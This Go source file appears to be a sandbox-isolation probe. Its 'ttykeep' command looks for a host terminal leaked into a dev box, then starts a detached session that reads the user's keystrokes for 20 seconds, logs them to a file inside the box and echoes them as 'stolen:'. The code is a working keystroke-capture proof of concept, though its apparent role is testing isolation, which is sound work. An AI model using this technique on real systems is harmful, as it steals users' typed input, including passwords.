package main

// probe ttykeep FILE: look for a terminal among fds 0-2 that is not one of
// the box's own (not under the box's /dev/pts), and keep it: a detached
// child in a session of its own reads from it for 20 s and appends what it
// read to FILE in the box (and writes it back to the terminal after
// "stolen: "), as a box process that outlives its session
// would to take what the user types next into the shell devbox returned
// to. Prints "fdN: LINK tty=BOOL" for each, "kept: N" when it kept one.
// Run from init, before main's switch, so that main.go's list needs no
// change.

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	if len(os.Args) < 3 {
		return
	}
	switch os.Args[1] {
	case "ttykeep":
		ttyKeep(os.Args[2])
	case "ttyread":
		ttyRead(os.Args[2])
	default:
		return
	}
	os.Exit(0)
}

func ttyKeep(file string) {
	kept := -1
	for fd := 0; fd <= 2; fd++ {
		link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		_, err := unix.IoctlGetTermios(fd, unix.TCGETS)
		fmt.Printf("fd%d: %s tty=%v\n", fd, link, err == nil)
		// A terminal of the box's own devpts is the box's (its pty).
		if err == nil && kept < 0 && !ownPty(fd) {
			kept = fd
		}
	}
	if kept < 0 {
		fmt.Println("kept: none")
		return
	}
	f := os.NewFile(uintptr(kept), "tty")
	p, err := os.StartProcess("/proc/self/exe", []string{"probe", "ttyread", file}, &os.ProcAttr{
		Files: []*os.File{f, nil, nil},
		Sys:   &syscall.SysProcAttr{Setsid: true},
	})
	if err != nil {
		fmt.Printf("kept: %d (start: %v)\n", kept, err)
		return
	}
	p.Release()
	fmt.Printf("kept: %d\n", kept)
}

// ownPty says whether fd is a pty of the devpts mounted at the box's
// /dev/pts (same device).
func ownPty(fd int) bool {
	var st, pts unix.Stat_t
	if unix.Fstat(fd, &st) != nil || unix.Stat("/dev/pts/ptmx", &pts) != nil {
		return false
	}
	return st.Dev == pts.Dev
}

// ttyRead reads the terminal on fd 0 for 20 s and appends what it got to
// file.
func ttyRead(file string) {
	deadline := time.Now().Add(20 * time.Second)
	unix.SetNonblock(0, true)
	var got strings.Builder
	buf := make([]byte, 256)
	for time.Now().Before(deadline) {
		n, err := unix.Read(0, buf)
		if n > 0 {
			got.Write(buf[:n])
			// Also show it on the terminal: proof outside the box.
			unix.Write(0, []byte("\r\nstolen: "+strings.TrimSpace(string(buf[:n]))+"\r\n"))
			f, ferr := os.OpenFile(file, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
			if ferr == nil {
				f.Write(buf[:n])
				f.Close()
			}
			continue
		}
		if err != nil && err != unix.EAGAIN {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
}
